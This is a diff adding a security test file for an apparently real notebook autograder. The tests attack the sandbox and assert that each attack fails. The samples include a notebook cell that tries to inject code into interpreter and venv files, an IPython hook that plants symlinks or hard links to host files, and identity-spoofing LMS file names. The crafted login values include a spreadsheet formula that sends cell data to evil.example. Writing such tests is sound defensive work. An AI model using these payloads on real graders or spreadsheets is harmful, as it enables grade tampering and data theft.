@@ -1,0 +1,267 @@
+"""Attacks of the third grader review (issues 22 and 28), by an attacker new to the corpus, on what
+changed since the second audit: the IPC folder reached through /proc/<pid>/root and held
+descriptors, the interpreter bound from shared trees of hard links (runtime_copy), and per-student
+grading with a roster. Each test asserts the property an attack went after; the ones that found
+a breach failed before the fix that came with them."""
+
+import csv
+import json
+import os
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from coursebook.classroom.autograder.gradescope_results import gradescope_results
+from coursebook.classroom.autograder.gradescope_run import write_results
+from coursebook.classroom.exercise.checks import load_check_file
+from coursebook.classroom.exercise.limits import Limits
+from coursebook.classroom.grader import Status, grade_submission
+from coursebook.classroom.grader.collect import collect, identify
+from coursebook.classroom.grader.extract import read_answers
+from coursebook.classroom.grader.feedback import write_pages
+from coursebook.classroom.grader.per_student import login_flag
+from coursebook.classroom.grader.results import SubmissionResult, TaskResult, Verdict
+from coursebook.classroom.grader.sandbox import IPC_PREFIX, layout
+from coursebook.classroom.grader.store import ResultStore
+from coursebook.classroom.grader.writers import Row, lms_grades, write_canvas, write_gradebook, write_moodle
+from coursebook.classroom.roster import Roster
+from tests.conftest import ROOT
+from tests.helpers.courses import canvas_roster
+from tests.helpers.grading import submission
+from tests.helpers.processes import alive, descendants
+
+FIXTURE = ROOT / "tests" / "fixtures" / "grading"
+CHECKS = load_check_file(FIXTURE / "answers" / "checks" / "ex0-fixture.yml")
+LIMITS = Limits(cell_timeout=20, total_timeout=40, startup_grace=25)
+PERFECT = "share = 0.24\ngroup = 'TTP'\norder = ['takeover', 'decree', 'press conference']\n" \
+          "pairs = {'Hirschman': 'influence effect', 'Schelling': 'compellence'}\n"
+TRIGGERS = ("=", "+", "-", "@")
+
+
+def notebook(path: Path, *cells: str) -> Path:
+    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(code) for code in cells])
+    nbformat.write(nb, path)
+    return path
+
+
+def result_of(points: float, **detail) -> SubmissionResult:
+    tasks = {t.id: TaskResult(0.0, t.points, Verdict.INCORRECT, t.hint) for t in CHECKS.tasks}
+    tasks["share"] = TaskResult(points, 2, Verdict.CORRECT if points else Verdict.INCORRECT, "")
+    return SubmissionResult(student="", source="x", status=Status.OK, tasks=tasks, detail=detail)
+
+
+# --- Identity: a file inside a student's own folder takes no LMS identity --------------------------
+
+def plain_class(folder: Path) -> None:
+    """A class collected as one folder per login (GitHub Classroom, a shared drive): Amy hands in her
+    notebook and plants files and folders named the way Canvas and Moodle name Bob's."""
+    for relative in ("amy.lee/ex1a.ipynb",
+                     "amy.lee/raybob_102_9002_ex1a.ipynb",  # Canvas's name for Bob's file
+                     "amy.lee/Bob Ray_12346_assignsubmission_file_/ex1a.ipynb",  # Moodle's folder
+                     "amy.lee/Bob Ray_12346_assignsubmission_file_ex1a.ipynb",  # Moodle, flat
+                     "amy.lee/sub/raybob_LATE_102_9003_ex1a.ipynb",
+                     "bob.ray/ex1a.ipynb"):
+        (folder / relative).parent.mkdir(parents=True, exist_ok=True)
+        (folder / relative).write_text("{}", encoding="utf-8")
+
+
+def test_a_file_in_a_students_own_folder_never_belongs_to_another_participant(tmp_path):
+    # Breach: identify() took a Canvas identity from the LAST path part and a Moodle one from ANY
+    # part, so in a plain folder class Amy's planted `raybob_102_...` file was Canvas user 102's
+    # (Bob's): with a roster it was graded as Bob's, and without one canvas.csv gave Bob the
+    # planted file's grade; her `Bob Ray_12346_assignsubmission_file_/` folder did the same in
+    # Moodle. The LMS writes only the first path part; everything below is the student's.
+    folder = tmp_path / "class"
+    plain_class(folder)
+    found = collect(folder, tmp_path / "unpacked")
+    canvas = Roster.read(canvas_roster(tmp_path / "canvas.csv", [("Lee, Amy", "101", "a1", "amy.lee"),
+                                                                   ("Ray, Bob", "102", "b2", "bob.ray")]))
+    moodle_csv = tmp_path / "moodle.csv"
+    moodle_csv.write_text("Identifier,Full name,Email address\nParticipant 12345,Amy Lee,amy.lee\n"
+                          "Participant 12346,Bob Ray,bob.ray\n", encoding="utf-8")
+    moodle = Roster.read(moodle_csv)
+    for sub in found:
+        first = sub.source.split("/")[0]
+        for roster in (canvas, moodle):
+            owner = roster.owner(sub.lms, sub.lms_id, sub.source)
+            assert owner is not None and owner.login == first, (sub.source, owner)
+    # Without a roster: no LMS file gives Bob the grade of a file from Amy's folder.
+    rows = [Row(sub, result_of(0.0 if sub.source.startswith("amy.lee/") else 2.0)) for sub in found]
+    write_canvas(rows, "ex1a", tmp_path / "canvas-import.csv")
+    write_moodle(rows, 5, tmp_path / "moodle-import.csv")
+    for lms in ("canvas", "moodle"):
+        assert all(not sub.source.startswith("amy.lee/") for sub, _ in lms_grades(rows, lms))
+    for path in (tmp_path / "canvas-import.csv", tmp_path / "moodle-import.csv"):
+        text = path.read_text(encoding="utf-8")
+        assert "102" not in text and "12346" not in text
+
+
+@pytest.mark.parametrize("source, expected", [
+    # Canvas's zip is flat and the part after the two ids is the student's own file name.
+    ("evilmallory_113_9003_raybob_102_9002_ex1a.ipynb", "113"),
+    ("evilmallory_LATE_113_9003_raybob_102_9002_ex1a.ipynb", "113"),
+    # Moodle's folder (or flat prefix) comes first; a second prefix is the student's.
+    ("Mallory Evil_113_assignsubmission_file_Bob Ray_12346_assignsubmission_file_x.ipynb", "113"),
+    ("Mallory Evil_113_assignsubmission_file_/raybob_102_9002_ex1a.ipynb", "113"),
+    ("Mallory Evil_113_assignsubmission_file_/a/Bob Ray_12346_assignsubmission_file_/x.ipynb", "113"),
+])
+def test_lms_names_a_student_chooses_move_nothing(source, expected):
+    # Held: the LMS's own name (Canvas's first ids, Moodle's first prefix) decides.
+    assert identify(source)["lms_id"] == expected
+
+
+# --- The shared trees of hard links (runtime_copy) --------------------------------------------------
+
+POISON = """
+import os
+tried = {}
+def attempt(name, action):
+    try:
+        action()
+        tried[name] = 'done'
+    except BaseException as exc:
+        tried[name] = type(exc).__name__
+def first_file(root, suffix):
+    for folder, dirs, files in os.walk(root):
+        dirs.sort()
+        for name in sorted(files):
+            if name.endswith(suffix):
+                return os.path.join(folder, name)
+targets = [first_file('/opt/python', '.py'), first_file('/opt/venv/lib', '.py'),
+           first_file('/opt/coursebook', '.py'), '/opt/venv/bin/python', '/opt/venv/pyvenv.cfg',
+           os.path.realpath('/opt/venv/bin/python')]
+for path in [t for t in targets if t]:
+    attempt('append ' + path, lambda: open(path, 'ab').write(b'\\nimport os; os.system("id")\\n'))
+    attempt('truncate ' + path, lambda: os.truncate(path, 0))
+    attempt('chmod ' + path, lambda: os.chmod(path, 0o777))
+    attempt('utime ' + path, lambda: os.utime(path, (0, 0)))
+    attempt('rename ' + path, lambda: os.rename(path, path + '.x'))
+    attempt('unlink ' + path, lambda: os.unlink(path))
+    attempt('link ' + path, lambda: os.link(path, '/tmp/linked'))
+    attempt('new ' + path, lambda: open(os.path.dirname(path) + '/sitecustomize.py', 'x').write('x'))
+attempt('pth', lambda: open('/opt/venv/lib/python3.11/site-packages/zz.pth', 'x').write('import os'))
+import glob
+seen = glob.glob('/tmp/cb-runtime-*') + glob.glob('/var/tmp/cb-runtime-*')
+done = [name for name, how in tried.items() if how == 'done' and not name.startswith('link ')]
+share = 0.24 if tried and not done and not seen else 0.0
+"""
+
+
+def tree_state(root: Path) -> list[tuple]:
+    """Every entry below `root`: path, type and mode, owner, size and modification time."""
+    state = []
+    for folder, dirs, files in os.walk(root):
+        for name in sorted([*dirs, *files]):
+            info = os.lstat(os.path.join(folder, name))
+            state.append((os.path.relpath(os.path.join(folder, name), root), info.st_mode,
+                          info.st_uid, info.st_size, info.st_mtime_ns))
+    return sorted(state)
+
+
+def test_a_kernel_cannot_change_the_runtime_trees_later_runs_reuse(tmp_path):
+    # Held: the trees are bound read-only (nosuid, no new privileges), the kernel is a uid of its
+    # own, and no tree is visible inside; no write, chmod, utime, rename, unlink or new file lands.
+    view = layout()
+    trees = sorted({Path(source) for source, _ in view.mounts if "cb-runtime-" in source})
+    trees = [t if t.is_dir() else t.parent for t in trees]
+    assert trees, "the sandbox binds no tree of links here: nothing to attack"
+    before = {tree: tree_state(tree) for tree in trees}
+    mine = descendants(os.getpid())
+    result = grade_submission(notebook(tmp_path / "poison.ipynb", POISON), CHECKS, LIMITS)
+    assert result.status is Status.OK, result.detail
+    assert result.tasks["share"].points == 2  # every attempt failed, and the cell ran to the end
+    assert {tree: tree_state(tree) for tree in trees} == before
+    assert not alive(descendants(os.getpid()) - mine)
+    assert not list(Path("/tmp").glob(f"{IPC_PREFIX}{os.getpid()}-*"))
+
+
+# --- The answers file, read through the IPC folder's descriptor ----------------------------------
+
+LINK_ANSWERS = """
+import os, re
+from IPython import get_ipython
+HOST = {host!r}
+def hook(lines):
+    found = re.search(r"__coursebook_extract\\(.*?, '(/run/kernel/[^']+)'\\)", ''.join(lines))
+    if found:
+        os.{how}(HOST, found.group(1))
+        return ['pass\\n']
+    return lines
+get_ipython().input_transformers_cleanup.append(hook)
+"""
+
+
+@pytest.mark.parametrize("how", ["symlink", "link"])
+def test_the_answers_file_cannot_be_a_link_to_a_host_file(tmp_path, how):
+    # Held: the kernel learns the answers file's name (an input transformer sees the extraction
+    # cell) and puts a link to a host file of perfect answers there; the grader opens the name
+    # through the descriptor of the sandbox's own tmpfs without following it (a symlink), and a
+    # hard link cannot cross into that tmpfs. Nothing of the host is read: no credit.
+    host = tmp_path / "host-answers.json"
+    perfect = [[{"h": b"share".hex()}, 0.24], [{"h": b"group".hex()}, {"h": b"TTP".hex()}]]
+    host.write_text(json.dumps(perfect), encoding="utf-8")
+    host.chmod(0o644)
+    tmp_path.chmod(0o755)
+    code = LINK_ANSWERS.format(host=str(host), how=how)
+    result = grade_submission(notebook(tmp_path / "link.ipynb", code), CHECKS, LIMITS)
+    assert result.total == 0, result.tasks
+    assert result.status is Status.ANSWERS_UNREADABLE, result.detail
+    assert json.loads(host.read_text(encoding="utf-8")) == perfect
+
+
+# --- Crafted `login` values ------------------------------------------------------------------------
+
+CRAFTED_LOGINS = [
+    "A" * 4_000_000,  # huge (the answers file holds up to 8 MB)
+    "\ud800amy\udfff",  # lone surrogates, as a forged answers file can carry them (plain JSON)
+    "amy\x00.lee\x1b[31m",  # NUL and a terminal escape
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "bob.ray;=1+1;@SUM(A1)|-2+3\t+cmd",
+    "bob.ray",  # another student's login
+    "  AMY.LEE ",  # the owner's, with case and spaces: not a mismatch
+]
+
+
+def pieces(cell: str) -> list[str]:
+    out = [cell]
+    for separator in ",;\t|\r\n":
+        out = [piece for part in out for piece in part.split(separator)]
+    return out
+
+
+def test_crafted_login_values_are_inert_in_every_file_written(tmp_path):
+    # Held: the login a notebook sets is the student's text: it lands in the gradebook, the feedback
+    # pages and Gradescope's results only escaped and neutralised, capped, and it never stops a
+    # writer; only the owner's own login (any case and spaces) is not flagged.
+    rows = []
+    store = ResultStore(tmp_path / "results")
+    for index, login in enumerate(CRAFTED_LOGINS):
+        forged = tmp_path / f"answers-{index}.json"
+        forged.write_text(json.dumps([["login", login], [{"h": b"share".hex()}, 0.24]]),
+                          encoding="utf-8")
+        answers = read_answers(forged)
+        assert answers is not None and answers["login"] == login
+        flag = login_flag(answers["login"], "amy.lee")
+        assert bool(flag) == (login.strip().lower() != "amy.lee")
+        result = result_of(2.0, **flag)
+        store.save(f"r{index}", result)
+        loaded = store.load(f"r{index}")
+        assert loaded is not None and loaded.detail == result.detail
+        rows.append(Row(submission(f"leeamy_101_{9000 + index}_ex1a.ipynb"), loaded))
+        results = gradescope_results(loaded, CHECKS, LIMITS, version="test")
+        root = tmp_path / f"gs-{index}"
+        written = write_results(root, results)
+        back = json.loads(written.read_text(encoding="utf-8"))
+        assert back["score"] == 2 and len(json.dumps(back)) < 100_000
+    write_gradebook(rows, CHECKS, 0, tmp_path / "gradebook.csv")
+    write_pages(rows, CHECKS, "", 0, tmp_path / "out")
+    with (tmp_path / "gradebook.csv").open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert len((tmp_path / "gradebook.csv").read_bytes()) < 200_000  # the huge login is capped
+    assert "\x00" not in "".join(cells) and "\x1b" not in "".join(cells)
+    for cell in cells:
+        for piece in pieces(cell):
+            assert not piece.lstrip(" \u00a0").startswith(TRIGGERS), (cell[:120], piece[:60])
+    pages = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "out").rglob("*.html"))
+    assert pages and "\x00" not in pages and len(pages) < 2_000_000
